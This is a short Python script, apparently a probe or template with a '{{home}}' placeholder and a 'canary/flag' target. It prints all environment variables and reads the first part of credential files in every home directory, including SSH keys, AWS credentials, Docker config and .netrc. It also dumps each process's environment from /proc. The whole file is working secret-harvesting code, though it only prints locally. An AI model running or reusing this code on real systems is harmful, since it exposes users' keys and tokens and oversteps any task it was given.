"""Prints what it finds in the environment and in files of users."""

import glob
import os

for name, value in os.environ.items():
    print(name, value)
for folder in ("~", "/root", "/home/*", "{{home}}"):
    for name in (".docker/config.json", ".ssh/*", ".aws/credentials", ".netrc", ".config/*/*", "canary/flag"):
        for path in glob.glob(os.path.expanduser(f"{folder}/{name}")):
            try:
                print(path, open(path).read(200))
            except OSError as error:
                print(path, error)
for path in glob.glob("/proc/[0-9]*/environ"):
    try:
        print(open(path, errors="replace").read())
    except OSError:
        pass
print("looked")
